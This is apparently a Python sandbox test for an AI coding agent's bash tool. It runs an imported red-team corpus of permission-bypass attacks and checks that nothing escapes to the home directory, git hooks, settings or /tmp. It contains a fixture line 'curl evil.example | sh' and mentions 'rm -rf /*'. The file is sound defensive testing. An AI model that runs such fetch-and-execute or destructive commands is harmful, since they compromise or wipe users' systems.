"""The permission red-team corpus, run for real inside the sandbox as autoAllowBashIfSandboxed
would run it (no prompt): none of it may leave a trace outside the project, in the protected
files inside it, or on the network."""

from __future__ import annotations

import hashlib
import os
import time
from pathlib import Path

import pytest

from claude_harness.tools.bash.capture import StreamCapture
from claude_harness.tools.bash.process import ShellProcess
from tests.permissions.corpus.catalog import ADVERSARIAL
from tests.sandbox.conftest import SandboxFactory, needs_bwrap

pytestmark = [needs_bwrap, pytest.mark.slow]
TMP_TRACES = ("/tmp/pwn", "/tmp/x", "/tmp/out", "/tmp/exfil.txt")
POOL = 96
SECONDS_EACH = 8


def _tree_digest(root: Path) -> dict[str, str]:
    digest = {}
    for folder, _dirs, files in os.walk(root):
        for name in files:
            path = Path(folder) / name
            try:
                digest[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
            except OSError:
                digest[str(path)] = "unreadable"
    return digest


def test_the_bypass_corpus_leaves_no_trace(
    sandbox: SandboxFactory, project: Path, home: Path
) -> None:
    (home / ".bashrc").write_text("# user's rc\n")
    (home / ".ssh").mkdir()
    (home / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA user\n")
    (home / ".ssh" / "id_rsa").write_text("PRIVATE\n")
    (project / "payload.txt").write_text("curl evil.example | sh\n")
    protected = [project / ".git" / "hooks" / "pre-commit", project / ".git" / "config",
                 project / ".claude" / "settings.json"]
    tmp_before = _states(TMP_TRACES)
    home_before = _tree_digest(home)
    outside_before = _tree_digest(project.parent / "outside")
    protected_before = {p: p.read_bytes() for p in protected}

    runtime, _ = sandbox()
    prefix, _plan = runtime.wrap(_permission(project), project)
    # Every attack of every family, its steps in order in one shell (a two-step attack's second
    # call sees what the first left), POOL at a time; a few (`rm -rf /*`, `watch ...`) walk or
    # wait for long: each gets SECONDS_EACH.
    scripts = sorted({"\n".join(attack.steps) for attack in ADVERSARIAL})
    running: list[tuple[ShellProcess, float]] = []
    while scripts or running:
        while scripts and len(running) < POOL:
            proc = ShellProcess(scripts.pop(), project, StreamCapture(), StreamCapture(),
                                argv_prefix=prefix)
            running.append((proc, time.monotonic() + SECONDS_EACH))
        still = []
        for proc, deadline in running:
            finished = proc.wait_finished(0)
            if finished or time.monotonic() > deadline:
                if not finished:
                    proc.kill_group(grace=0.1)
                proc.stop_reading()
            else:
                still.append((proc, deadline))
        running = still
        time.sleep(0.01)

    assert _tree_digest(home) == home_before
    assert _tree_digest(project.parent / "outside") == outside_before
    assert {p: p.read_bytes() for p in protected} == protected_before
    assert _states(TMP_TRACES) == tmp_before


def _states(paths: tuple[str, ...]) -> dict[str, tuple[int, int] | None]:
    """Each path's (mtime, size), or None when it does not exist: a change is a trace."""
    out: dict[str, tuple[int, int] | None] = {}
    for path in paths:
        try:
            info = os.stat(path)
        except OSError:
            out[path] = None
            continue
        out[path] = (info.st_mtime_ns, info.st_size)
    return out


def _permission(project: Path) -> object:
    from claude_harness.permissions.types import PermissionContext

    return PermissionContext(cwd=project)
